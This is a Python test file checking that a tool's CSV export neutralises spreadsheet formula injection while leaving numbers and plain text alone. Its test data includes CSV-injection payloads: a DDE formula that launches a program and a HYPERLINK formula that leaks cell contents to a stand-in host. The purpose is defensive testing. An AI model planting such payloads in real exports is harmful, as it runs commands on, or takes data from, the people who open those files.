"""CSV export neutralises spreadsheet formulas in stored text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json

import click
import pytest
from click.testing import CliRunner

from sourcetrace.cli_store import register
from sourcetrace.models import (
    Analysis,
    Article,
    Attribution,
    AttributionKind,
    Page,
    SourceKind,
    Span,
)
from sourcetrace.store import export

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n\n@SUM(1)",
]


def _csv(rows: list[dict]) -> list[dict[str, str]]:
    out = io.BytesIO()
    export(rows, "csv", out)
    return list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text(cell):
    (row,) = _csv([{"content": cell}])
    assert row["content"] == "'" + cell


def test_numbers_stay_numbers_and_plain_text_stays_as_is():
    (row,) = _csv(
        [{"n": -3, "x": -2.5, "big": 10**12, "yes": True, "none": None, "text": "a = b", "e": ""}]
    )
    assert row == {
        "n": "-3",
        "x": "-2.5",
        "big": "1000000000000",
        "yes": "True",
        "none": "",
        "text": "a = b",
        "e": "",
    }


def test_json_cells_are_checked_after_encoding():
    (row,) = _csv([{"authors": ["=evil()"], "images": {"caption": "@x"}}])
    assert json.loads(row["authors"]) == ["=evil()"]  # starts with "[": not a formula
    assert json.loads(row["images"]) == {"caption": "@x"}


def test_jsonl_keeps_the_stored_text_untouched():
    out = io.BytesIO()
    export([{"content": FORMULAS[0]}], "jsonl", out)
    assert json.loads(out.getvalue()) == {"content": FORMULAS[0]}


def test_the_export_command_neutralises_a_hostile_statement(store, tmp_path):
    title = '=HYPERLINK("https://evil.example","Breaking")'
    text = "The mayor said =cmd|' /C calc'!A0 was the plan."
    article = Article(text=text, paragraphs=(Span(0, len(text)),), source="evil.html", title=title)
    said = Attribution(
        source=Span(0, 9),
        cues=(Span(10, 14),),
        contents=(Span(15, 33),),
        kind=AttributionKind.INDIRECT,
        source_kind=SourceKind.PERSON,
        source_text="The mayor",
        component="attributions.test.v1",
    )
    analysis = Analysis(article=article, attributions=(said,), roster=(), components=())
    store.add(store.start_run("ingest", []), Page(content=text, source="evil.html"), analysis)
    group = click.Group()
    register(group)
    out = tmp_path / "a.csv"
    result = CliRunner().invoke(
        group, ["export", "--format", "csv", "--out", str(out), "--db", store.url]
    )
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(out.open(encoding="utf-8", newline=""))
    assert row["title"] == "'" + title
    assert row["content"] == "'=cmd|' /C calc'!A0"
    assert row["attribution"] == "0"
